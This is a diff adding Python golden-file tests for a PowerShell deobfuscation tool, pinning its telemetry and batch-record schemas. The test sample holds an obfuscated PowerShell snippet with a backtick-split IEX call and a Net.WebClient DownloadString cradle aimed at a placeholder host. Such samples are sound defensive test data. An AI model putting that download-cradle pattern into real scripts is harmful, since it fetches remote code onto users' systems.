@@ -1,0 +1,79 @@
+"""Golden-file tests pinning the serialized telemetry schemas.
+
+Two wire formats are load-bearing: ``PipelineStats.to_dict()`` (embedded
+in every batch record) and the batch JSONL record itself.  These tests
+run the real pipeline on a fixed sample, normalize the
+timing-nondeterministic values, and compare the result against checked-in
+golden JSON.  If one of these fails because you changed the schema on
+purpose: bump ``STATS_SCHEMA_VERSION`` / ``RECORD_SCHEMA_VERSION`` and
+regenerate with ``python tests/obs/regen_golden.py``.
+"""
+
+import json
+import os
+
+from repro import deobfuscate
+from repro.batch.records import SampleRecord
+from repro.batch.task import Task, run_one
+from repro.obs import PipelineStats
+
+GOLDEN_DIR = os.path.join(os.path.dirname(__file__), "golden")
+
+# Exercises token rewrites, recovery, tracing, and an iex unwrap.
+GOLDEN_SCRIPT = (
+    "I`E`X ('wri'+'te-host hi')\n"
+    "$a = 'mal'+'ware'\n"
+    "(New-Object Net.WebClient).DownloadString('http://x.test/')\n"
+)
+
+
+def normalize(value, path=""):
+    """Zero every wall-clock measurement; they vary run to run."""
+    if isinstance(value, dict):
+        out = {}
+        for key, item in value.items():
+            if key == "phase_seconds" and isinstance(item, dict):
+                out[key] = {phase: 0.0 for phase in item}
+            elif key in ("seconds", "elapsed_seconds"):
+                out[key] = 0.0
+            else:
+                out[key] = normalize(item, f"{path}/{key}")
+        return out
+    if isinstance(value, list):
+        return [normalize(item, path) for item in value]
+    return value
+
+
+def load_golden(name: str) -> dict:
+    with open(os.path.join(GOLDEN_DIR, name), encoding="utf-8") as handle:
+        return json.load(handle)
+
+
+class TestPipelineStatsGolden:
+    def test_stats_schema_matches_golden(self):
+        result = deobfuscate(GOLDEN_SCRIPT)
+        got = normalize(result.stats.to_dict())
+        assert got == load_golden("pipeline_stats.json")
+
+    def test_golden_round_trips_losslessly(self):
+        golden = load_golden("pipeline_stats.json")
+        assert PipelineStats.from_dict(golden).to_dict() == golden
+
+
+class TestBatchRecordGolden:
+    def test_record_schema_matches_golden(self, tmp_path):
+        sample = tmp_path / "golden.ps1"
+        sample.write_text(GOLDEN_SCRIPT, encoding="utf-8")
+        record = run_one(Task(path=str(sample)))
+        record["path"] = "<SAMPLE>"
+        assert normalize(record) == load_golden("batch_record.json")
+
+    def test_golden_record_loads_as_sample_record(self):
+        golden = load_golden("batch_record.json")
+        typed = SampleRecord.from_dict(golden)
+        assert typed.status == "ok"
+        assert typed.schema_version == golden["schema_version"]
+        assert typed.stats is not None
+        assert typed.stats.to_dict() == golden["stats"]
+        # to_dict restores the wire shape exactly.
+        assert typed.to_dict() == golden
